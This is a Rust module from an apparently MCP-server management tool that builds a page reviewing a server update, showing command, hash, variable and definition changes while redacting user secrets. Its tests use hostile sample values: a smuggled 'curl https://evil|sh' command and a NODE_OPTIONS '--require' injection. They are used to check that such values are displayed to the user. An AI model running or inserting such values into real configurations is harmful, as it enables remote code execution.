//! The page about an update: all that changes.

use std::collections::{BTreeMap, BTreeSet};

use hospes_console::OfferedItem;
use hospes_host::config::{ServerConfig, ServerTransport, join_command, redact_command};
use hospes_host::pins::{ItemKind, definition_changes};
use hospes_registry::ServerEntry;
use serde_json::Value;

use super::super::add::plan::PlannedServer;
use super::super::add::trial::{DefinitionMap, TrialReport};
use super::super::add::view::{self, Screen};
use super::UpdateSubject;
use super::check::UpdateCandidate;
use crate::output::first_line;
use crate::registry::format_ago;
use crate::shown_commands::shown_command;

/// Maximum length of an old or new value of a definition.
const MAX_VALUE: usize = 60;
/// Maximum number of changed places of one definition that are shown.
const MAX_PLACES: usize = 6;
/// Maximum number of definitions of each kind of change that are shown.
const MAX_ITEMS: usize = 30;
/// Text in place of a value that may be a secret.
const HIDDEN: &str = "[redacted]";

/// All that the page is about.
pub(super) struct UpdatePage<'a> {
    pub(super) candidate: &'a UpdateCandidate,
    pub(super) entry: &'a ServerEntry,
    pub(super) about: &'a UpdateSubject<'a>,
    pub(super) report: &'a TrialReport,
    /// Definitions of the new version.
    pub(super) offered: &'a DefinitionMap,
}

impl UpdatePage<'_> {
    pub(super) fn screen(&self) -> Screen {
        let mut screen = Screen::default();
        let UpdateSubject { planned, risks, merged, published, written, notices, .. } = *self.about;
        let (old, new) = (&self.candidate.server, &merged.server);
        let title = self.entry.title.as_deref().unwrap_or(&self.entry.name);
        screen.title(title, &format!("update of {}", old.name));
        let from = self.candidate.version().unwrap_or_else(|| "unknown".to_owned());
        let age = self.entry.published_at().map(|published| {
            let age = jiff::Timestamp::now().duration_since(published);
            format!(", published {}", format_ago(age.try_into().unwrap_or_default()))
        });
        screen.row("version", &format!("{from} → {}{}", self.entry.version, age.unwrap_or_default()));
        let PlannedServer { warnings, permissions, .. } = planned;
        let is_shown = |text: &String| permissions.iter().any(|(known, _)| known == text);
        for risk in risks.iter().filter(|text| !is_shown(text)) {
            screen.warning(risk);
        }
        for warning in warnings.iter().filter(|warning| !risks.contains(warning)) {
            screen.warning(warning);
        }
        let is_process = matches!(new.transport, ServerTransport::Stdio(_));
        let label = if is_process { "command" } else { "url" };
        change(&mut screen, label, &launch_text(old, written), &launch_text(new, Some(published)));
        let digest = |server: &ServerConfig| {
            server.origin.digest.as_deref().map_or_else(|| "none".to_owned(), view::short_digest)
        };
        change(&mut screen, "hash", &digest(old), &digest(new));
        variables(&mut screen, old, new, published);
        self.permissions(&mut screen);
        for replaced in &merged.replaced {
            screen.warning(replaced);
        }
        self.definitions(&mut screen);
        if let Some(pinned) = &self.report.pinned {
            view::findings(&mut screen, pinned);
        }
        for notice in notices {
            screen.row("note", notice);
        }
        screen
    }

    /// Returns the definitions that are new or have changed, for a page.
    pub(super) fn changed_items(&self) -> Vec<OfferedItem> {
        let (before, after) = (&self.about.before.definitions, self.offered);
        let is_same = |item: &&OfferedItem| {
            after.iter().any(|(key, definition)| {
                (key.0.as_str(), &key.1) == (item.kind.as_str(), &item.name)
                    && before.get(key) == Some(definition)
            })
        };
        self.report.offers.iter().filter(|item| !is_same(item)).cloned().collect()
    }

    fn permissions(&self, screen: &mut Screen) {
        for (text, breaks_out) in &self.about.planned.permissions {
            match breaks_out {
                true => screen.warning(&format!("{text}: the container is no confinement then")),
                false => screen.row("may", text),
            }
        }
    }

    fn definitions(&self, screen: &mut Screen) {
        let (before, after) = (&self.about.before.definitions, self.offered);
        screen.row("tools", &view::tools(self.report.tools));
        if before.is_empty() {
            screen.row("", "what it offered before is not known");
            return;
        }
        let keys: BTreeSet<_> = before.keys().chain(after.keys()).collect();
        let mut is_same = true;
        let mut shown = 0;
        for key in keys {
            let (old, new) = (before.get(key), after.get(key));
            if old == new {
                continue;
            }
            is_same = false;
            shown += 1;
            if shown > MAX_ITEMS {
                continue;
            }
            let name = item_name(key);
            match (old, new) {
                (None, _) => screen.row("added", &format!("{name}{}", description(new))),
                (_, None) => screen.row("removed", &name),
                _ => changed(screen, &name, old, new),
            }
        }
        if shown > MAX_ITEMS {
            screen.row(
                "",
                &format!(
                    "and {} more: {}",
                    shown - MAX_ITEMS,
                    shown_command("pins show", &self.about.merged.server.name)
                ),
            );
        }
        if is_same {
            screen.row("", "all definitions are as before");
        }
    }
}

fn item_name((kind, name): &(ItemKind, String)) -> String {
    match name.is_empty() {
        true => kind.as_str().to_owned(),
        false => format!("{} {name}", kind.as_str()),
    }
}

fn description(definition: Option<&Value>) -> String {
    let text = definition.and_then(|definition| definition["description"].as_str()).unwrap_or_default();
    if text.is_empty() { String::new() } else { format!(": {}", first_line(text, MAX_VALUE)) }
}

fn changed(screen: &mut Screen, name: &str, old: Option<&Value>, new: Option<&Value>) {
    let changes = definition_changes(old, new);
    screen.row("changed", name);
    let value = |text: &Option<String>| {
        text.as_deref().map_or_else(|| "nothing".to_owned(), |text| first_line(text, MAX_VALUE))
    };
    for one in changes.iter().take(MAX_PLACES) {
        screen.row("", &format!("{}: {} → {}", one.at, value(&one.before), value(&one.after)));
    }
    if changes.len() > MAX_PLACES {
        screen.row("", &format!("and {} more places", changes.len() - MAX_PLACES));
    }
}

/// Writes a value and the one before, if they differ.
fn change(screen: &mut Screen, label: &str, before: &str, after: &str) {
    if before == after {
        screen.row(label, &format!("{after} (as before)"));
    } else {
        screen.row(label, after);
        screen.row("", &format!("before: {before}"));
    }
}

/// Formats what is run. A command or URL that is still as `published` is shown as it is written: what looks like a secret in
/// it may be what the person has to see. Otherwise the person has written it, perhaps with secrets, which are hidden.
fn launch_text(server: &ServerConfig, published: Option<&ServerConfig>) -> String {
    let published = published.map(|published| &published.transport);
    match (&server.transport, published) {
        (ServerTransport::Stdio(own), Some(ServerTransport::Stdio(published)))
            if (&own.command, &own.args) == (&published.command, &published.args) =>
        {
            view::short_command(&own.written_command_line())
        }
        (ServerTransport::Http(own), Some(ServerTransport::Http(published))) if own.url == published.url => {
            own.url.written().to_owned()
        }
        (own, _) => view::short_command(&own.to_string()),
    }
}

/// Writes the variables and headers that are new, that have another value, and that go. Values of the publisher are shown
/// as they are written, secrets in them are references. Of those of the person, only the names are shown.
fn variables(screen: &mut Screen, old: &ServerConfig, new: &ServerConfig, published: &ServerConfig) {
    let (old, new, published) = (values(old), values(new), values(published));
    let is_published = |name: &String, value: &String| published.get(name) == Some(value);
    let added = new.iter().filter(|(name, _)| !old.contains_key(*name));
    for (index, (name, value)) in added.enumerate() {
        let text = match is_published(name, value) {
            true => join_command([format!("{name}={value}").as_str()]),
            false => name.clone(),
        };
        screen.row(if index == 0 { "new values" } else { "" }, &text);
    }
    for (name, value) in &new {
        if let Some(before) = old.get(name).filter(|before| *before != value) {
            // The record does not tell whether the publisher or the person wrote the one before.
            let before = if looks_secret(name, before) { HIDDEN } else { before };
            let value = if is_published(name, value) { value } else { HIDDEN };
            screen.row("value", &format!("{name}: {before} → {value}"));
        }
    }
    let removed: Vec<&str> = old.keys().filter(|name| !new.contains_key(*name)).map(String::as_str).collect();
    if !removed.is_empty() {
        screen.row("dropped", &removed.join(", "));
    }
}

/// Returns true for a value that is hidden where it is an argument. References are not.
fn looks_secret(name: &str, value: &str) -> bool {
    let text = format!("{name}={value}");
    redact_command([text.as_str()]) != join_command([text.as_str()])
}

/// Returns the variables of a process, or the headers of a URL.
fn values(server: &ServerConfig) -> BTreeMap<String, String> {
    match &server.transport {
        ServerTransport::Stdio(stdio) => {
            stdio.env.iter().map(|(name, value)| (name.clone(), value.reveal().to_owned())).collect()
        }
        ServerTransport::Http(http) => {
            http.headers.iter().map(|(name, value)| (name.clone(), value.reveal().to_owned())).collect()
        }
        _ => BTreeMap::new(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests may panic")]

    use super::super::merge::read_written;
    use super::*;

    fn server(text: &str) -> ServerConfig {
        read_written(&format!("[servers.s]\n{text}\n")).unwrap()
    }

    fn rows(old: &ServerConfig, new: &ServerConfig, published: &ServerConfig) -> Vec<String> {
        let mut screen = Screen::default();
        variables(&mut screen, old, new, published);
        screen.for_page().rows.iter().map(|row| format!("{}: {}", row.label, row.text)).collect()
    }

    #[test]
    fn what_the_publisher_wrote_is_shown_and_what_the_person_typed_is_hidden() {
        let published = server("command = ['x', 'TOKEN=1;curl https://evil|sh']");
        let mine = server("command = ['x', '--token', 'hunter2hunter2']");
        assert_eq!(launch_text(&published, Some(&published)), "x \"TOKEN=1;curl https://evil|sh\"");
        assert!(!launch_text(&mine, Some(&published)).contains("hunter2"));
        assert!(!launch_text(&mine, None).contains("hunter2"));
        let url = server("url = 'https://e.example/mcp?next=evil'");
        assert_eq!(launch_text(&url, Some(&url)), "https://e.example/mcp?next=evil");
        assert_eq!(launch_text(&url, None), "https://e.example/mcp?next=[redacted]");
    }

    #[test]
    fn new_values_of_the_publisher_are_shown_and_values_of_the_person_are_not() {
        let old = server("command = 'x'\nenv = { KEEP = 'k', TOKEN = 'hunter2hunter2', GONE = 'g' }");
        let published = server(
            "command = 'x'\nenv = { NODE_OPTIONS = '--require /tmp/e.js', TOKEN = '${secret:s.token}', KEEP = 'k' }",
        );
        let new = server(
            "command = 'x'\nenv = { NODE_OPTIONS = '--require /tmp/e.js', TOKEN = '${secret:s.token}', KEEP = 'k', OWN = 'hunter3hunter3' }",
        );
        let shown = rows(&old, &new, &published);
        assert!(shown.contains(&"new values: \"NODE_OPTIONS=--require /tmp/e.js\"".to_owned()), "{shown:?}");
        assert!(shown.contains(&"value: TOKEN: [redacted] → ${secret:s.token}".to_owned()), "{shown:?}");
        assert!(shown.contains(&": OWN".to_owned()), "{shown:?}");
        assert!(shown.contains(&"dropped: GONE".to_owned()), "{shown:?}");
        assert!(!shown.concat().contains("hunter") && !shown.concat().contains("KEEP"), "{shown:?}");
    }
}
